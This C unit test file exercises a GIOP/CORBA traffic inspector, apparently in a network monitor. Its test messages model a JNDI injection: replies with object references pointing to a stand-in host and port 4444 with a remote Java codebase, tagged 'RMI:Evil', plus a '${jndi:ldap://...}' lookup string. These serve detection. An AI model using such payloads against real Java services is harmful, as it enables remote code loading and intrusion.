/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "inspect/cdr.h"
#include "inspect/giop_message.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/count.h"
#include "inspect/hold.h"
#include "support/conversation.h"

/* Writes messages as an ORB does, in either byte order. */
struct writer {
    struct buf out;
    size_t start; /* alignment counts from here */
    bool little;
};

static void put_u8(struct writer *w, uint8_t v)
{
    assert_true(buf_add_byte(&w->out, v));
}

static void put_align(struct writer *w, size_t n)
{
    while ((w->out.len - w->start) % n)
        put_u8(w, 0);
}

static void put_u16(struct writer *w, uint16_t v)
{
    put_align(w, 2);
    put_u8(w, (uint8_t)(w->little ? v : v >> 8));
    put_u8(w, (uint8_t)(w->little ? v >> 8 : v));
}

static void put_u32(struct writer *w, uint32_t v)
{
    put_align(w, 4);
    for (unsigned i = 0; i < 4; i++)
        put_u8(w, (uint8_t)(v >> (w->little ? 8 * i : 24 - 8 * i)));
}

static void put_octets(struct writer *w, struct bytes v)
{
    put_u32(w, (uint32_t)v.len);
    assert_true(buf_add(&w->out, v));
}

static void put_string(struct writer *w, const char *v)
{
    put_octets(w, bytes_of(v, strlen(v) + 1));
}

static struct writer begin(uint8_t minor, bool little, uint8_t flags, uint8_t type)
{
    struct writer w = {.out = buf_within(8192), .little = little};
    const uint8_t head[] = {'G', 'I', 'O', 'P', 1, minor, (uint8_t)(flags | little), type, 0, 0, 0, 0};

    assert_true(buf_add(&w.out, bytes_of(head, sizeof head)));
    return w;
}

static struct bytes finish(struct writer *w)
{
    size_t n = w->out.len - GIOP_HEADER;

    for (unsigned i = 0; i < 4; i++)
        w->out.p[8 + i] = (uint8_t)(n >> (w->little ? 8 * i : 24 - 8 * i));
    return buf_bytes(&w->out);
}

static struct writer inside(bool little)
{
    struct writer w = {.out = buf_within(4096), .little = little};

    put_u8(&w, little);
    return w;
}

/* A request of resolve(labctx.c / x) at NameService. */
static struct writer resolve(uint8_t minor, bool little)
{
    struct writer w = begin(minor, little, 0, GIOP_REQUEST);

    if (minor < 2)
        put_u32(&w, 0); /* contexts */
    put_u32(&w, 7);
    put_u8(&w, 3);
    for (unsigned i = 0; i < 3 && minor; i++)
        put_u8(&w, 0);
    if (minor >= 2)
        put_u16(&w, 0); /* an object key follows */
    put_octets(&w, BYTES_LIT("NameService"));
    put_string(&w, "resolve");
    put_u32(&w, 0); /* principal, or contexts */
    if (minor >= 2)
        put_align(&w, 8);
    put_u32(&w, 2);
    put_string(&w, "labctx");
    put_string(&w, "c");
    put_string(&w, "x");
    put_string(&w, "");
    return w;
}

static void put_ior(struct writer *w, bool little)
{
    struct writer profile = inside(little), codebase = inside(!little);

    put_string(&codebase, "http://192.0.2.66/classes/");
    put_u8(&profile, 1);
    put_u8(&profile, 2);
    put_string(&profile, "192.0.2.66");
    put_u16(&profile, 4444);
    put_octets(&profile, BYTES_LIT("key"));
    put_u32(&profile, 2); /* components: ORB type, codebase */
    put_u32(&profile, 0);
    put_octets(&profile, BYTES_LIT("\0\0\0\0JDK\0"));
    put_u32(&profile, 25);
    put_octets(&profile, buf_bytes(&codebase.out));
    put_string(w, "RMI:Evil:0000000000000000");
    put_u32(w, 1);
    put_u32(w, 0);
    put_octets(w, buf_bytes(&profile.out));
    buf_drop(&profile.out);
    buf_drop(&codebase.out);
}

static void put_reply_head(struct writer *w, uint8_t minor, uint32_t status)
{
    if (minor < 2)
        put_u32(w, 0);
    put_u32(w, 7);
    put_u32(w, status);
    if (minor >= 2) {
        put_u32(w, 1); /* contexts */
        put_u32(w, 1);
        put_octets(w, BYTES_LIT("\0codeset"));
        put_align(w, 8);
    }
}

static struct transcript play(const struct said *said, unsigned n)
{
    struct conversation c = {.said = said, .n = n, .proto = PROTO_TCP};
    struct config config = conversation_config();
    struct transcript t;

    conversation_play(&c, &config, &t);
    assert_int_equal(holds_bytes(), 0);
    conversation_assert_same_in_pieces(said, n, &config);
    return t;
}

static void assert_says(const struct said *said, unsigned n, const char *what)
{
    struct transcript t = play(said, n);

    if (!transcript_has(&t, what))
        fail_msg("no '%s' in\n%.*s", what, (int)t.text.len, (const char *)t.text.p);
    transcript_drop(&t);
}

/* Each version, in both byte orders: a name asked for, an object reference with a codebase in answer. */
static void lookup_and_reference(void **state)
{
    (void)state;
    for (uint8_t minor = 0; minor <= 3; minor++)
        for (unsigned little = 0; little < 2; little++) {
            struct writer ask = resolve(minor, little), answer = begin(minor, little, 0, GIOP_REPLY);
            struct said said[2] = {{0, finish(&ask), 0}};

            put_reply_head(&answer, minor, minor & 1 ? 3 : 0);
            put_ior(&answer, little);
            said[1] = (struct said){1, finish(&answer), 0};
            assert_says(said, 2, "0 giop giop.name #0 labctx.c/x\n");
            assert_says(said, 2,
                        "0 giop fact #0 giop.message=request;giop.operation=resolve;"
                        "giop.object=NameService;jndi.stage=callback;giop.name=labctx.c/x;"
                        "flow.opening=giop;\n");
            assert_says(said, 2,
                        "giop.endpoint=192.0.2.66:4444;java.codebase=http://192.0.2.66/classes/;"
                        "jndi.stage=reference;java.content=stub;\n");
            assert_says(said, 2, minor & 1 ? "giop.status=location_forward;" : "giop.status=no_exception;");
            buf_drop(&ask.out);
            buf_drop(&answer.out);
        }
}

/* A javax.naming.Reference by value, with its codebase. */
static void reference_by_value(void **state)
{
    struct writer answer = begin(2, false, 0, GIOP_REPLY);
    struct said said[1];

    (void)state;
    put_reply_head(&answer, 2, 0);
    put_u32(&answer, 0x7fffff03);
    put_string(&answer, "http://192.0.2.66/");
    put_string(&answer, "RMI:javax.naming.Reference:0123456789ABCDEF:E8C69EA2A8F1A2F0");
    said[0] = (struct said){1, finish(&answer), 0};
    assert_says(said, 1,
                "java.codebase=http://192.0.2.66/;java.class=javax.naming.Reference;"
                "java.content=reference;jndi.stage=reference;\n");
    buf_drop(&answer.out);
}

static void locate(void **state)
{
    struct writer ask = begin(2, true, 0, GIOP_LOCATE_REQUEST), answer = begin(2, true, 0, GIOP_LOCATE_REPLY);
    struct said said[2];

    (void)state;
    put_u32(&ask, 1);
    put_u16(&ask, 0);
    put_octets(&ask, BYTES_LIT("INIT"));
    put_u32(&answer, 1);
    put_u32(&answer, 2);
    put_ior(&answer, true);
    said[0] = (struct said){0, finish(&ask), 0};
    said[1] = (struct said){1, finish(&answer), 0};
    assert_says(said, 2, "0 giop fact #0 giop.message=locate_request;giop.object=INIT;flow.opening=giop;\n");
    assert_says(said, 2,
                "giop.message=locate_reply;giop.status=object_forward;giop.endpoint=192.0.2.66:4444;"
                "java.codebase=http://192.0.2.66/classes/;");
    buf_drop(&ask.out);
    buf_drop(&answer.out);
}

/* The message in three: what is joined is read as if it had come whole. */
static void fragments(void **state)
{
    struct writer ask = resolve(2, false);
    struct bytes whole = finish(&ask), body = bytes_from(whole, GIOP_HEADER);
    struct buf sent = buf_within(8192);
    struct said said[1];

    (void)state;
    for (size_t at = 0; at < body.len; at += 32) {
        struct writer part = begin(2, false, at + 32 < body.len ? 2 : 0, at ? GIOP_FRAGMENT : GIOP_REQUEST);

        if (at)
            put_u32(&part, 7);
        assert_true(buf_add(&part.out, bytes_slice(body, at, at + 32)));
        assert_true(buf_add(&sent, finish(&part)));
        buf_drop(&part.out);
    }
    said[0] = (struct said){0, buf_bytes(&sent), 0};
    assert_says(said, 1,
                "giop.operation=resolve;giop.object=NameService;jndi.stage=callback;giop.name=labctx.c/x;");
    buf_drop(&sent);
    buf_drop(&ask.out);
}

/* Each message cut at every byte, behind a right size: no more is read than is there. */
static void cut_anywhere(void **state)
{
    struct config config = conversation_config();

    (void)state;
    for (unsigned kind = 0; kind < 2; kind++) {
        struct writer w = kind ? begin(2, true, 0, GIOP_REPLY) : resolve(2, true);

        if (kind) {
            put_reply_head(&w, 2, 0);
            put_ior(&w, true);
        }
        for (size_t cut = GIOP_HEADER; cut < w.out.len; cut++) {
            struct writer part = {.out = buf_within(8192), .little = true};
            struct said said[1];
            struct conversation c = {.said = said, .n = 1, .proto = PROTO_TCP};
            struct transcript t;

            assert_true(buf_add(&part.out, bytes_slice(buf_bytes(&w.out), 0, cut)));
            said[0] = (struct said){kind, finish(&part), 0};
            conversation_play(&c, &config, &t);
            assert_true(transcript_has(&t, "giop.message="));
            transcript_drop(&t);
            buf_drop(&part.out);
        }
        buf_drop(&w.out);
    }
}

static void not_giop(void **state)
{
    (void)state;
    assert_int_equal(giop_inspector.recognise(BYTES_LIT("GIOP\x01\x02\x00\x00"), PROTO_TCP, false),
                     RECOGNISE_REQUEST);
    assert_int_equal(giop_inspector.recognise(BYTES_LIT("GIOP\x01\x02\x00\x01"), PROTO_TCP, false),
                     RECOGNISE_RESPONSE);
    assert_int_equal(giop_inspector.recognise(BYTES_LIT("GIOP\x01"), PROTO_TCP, false), RECOGNISE_MORE);
    assert_int_equal(giop_inspector.recognise(BYTES_LIT("GIOP\x01"), PROTO_TCP, true), RECOGNISE_NO);
    assert_int_equal(giop_inspector.recognise(BYTES_LIT("GIOP\x02\x00\x00\x00"), PROTO_TCP, false),
                     RECOGNISE_NO);
    assert_int_equal(giop_inspector.recognise(BYTES_LIT("GIOP\x01\x02\x00\x08"), PROTO_TCP, false),
                     RECOGNISE_NO);
    assert_int_equal(giop_inspector.recognise(BYTES_LIT("GIPSY   "), PROTO_TCP, false), RECOGNISE_NO);
    assert_int_equal(giop_inspector.recognise(BYTES_LIT("GIOP\x01\x02\x00\x00"), PROTO_UDP, true),
                     RECOGNISE_NO);
}

/* Nonsense behind a message, and a message beyond the ceiling, stay watched. */
static void given_up_is_watched(void **state)
{
    struct writer ask = resolve(2, false);
    struct said said[] = {{0, finish(&ask), 0}, {0, BYTES_LIT("then ${jndi:ldap://a/b} in clear"), 0}};
    struct said huge[] = {{0, BYTES_LIT("GIOP\x01\x02\x00\x00\x7f\xff\xff\xff ${jndi:ldap://a/b}"), 0}};
    struct transcript t;

    (void)state;
    t = play(said, 2);
    assert_true(transcript_raw_has(&t, 0, "${jndi:ldap://a/b}"));
    transcript_drop(&t);
    t = play(huge, 1);
    assert_true(transcript_raw_has(&t, 0, "${jndi:ldap://a/b}"));
    transcript_drop(&t);
    buf_drop(&ask.out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lookup_and_reference),
        cmocka_unit_test(reference_by_value),
        cmocka_unit_test(locate),
        cmocka_unit_test(fragments),
        cmocka_unit_test(cut_anywhere),
        cmocka_unit_test(not_giop),
        cmocka_unit_test(given_up_is_watched),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
